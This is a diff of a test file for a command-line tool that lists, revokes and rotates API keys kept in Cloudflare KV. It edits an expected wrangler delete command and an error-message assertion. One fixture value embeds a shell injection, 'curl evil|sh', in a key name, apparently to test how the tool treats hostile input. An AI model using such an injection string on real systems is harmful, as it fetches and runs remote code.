@@ -226,7 +226,7 @@ test('revoke finds no key of another environment, and none without a record', as
 });
 
 const HASH = nameOf('x');
-const DELETE = `KV has no valid record ${HASH}. To delete it: npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
+const DELETE = `npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
 const ODD_NAME = "delete this record in the dashboard: key:x'; curl evil|sh #\uFFFD";
 test.each<[title: string, change: object, name?: string, error?: string]>([
   ['no label', { label: undefined }],
@@ -244,7 +244,7 @@ test.each<[title: string, change: object, name?: string, error?: string]>([
   const revoke = await fake.run('revoke key_anna --env staging');
   const rotate = await fake.run('rotate key_bob --env staging');
   for (const { code, stderr } of [list, revoke, rotate])
-    expect([code, stderr.includes(`error: ${error}\n`)]).toEqual([1, true]);
+    expect([code, stderr.includes(`: ${error}\n`)]).toEqual([1, true]);
   const [bob, anna] = fake.values.values();
   expect([bob, anna]).toEqual([expect.stringContaining('expiresAt'), JSON.stringify(REVOKED)]);
 });
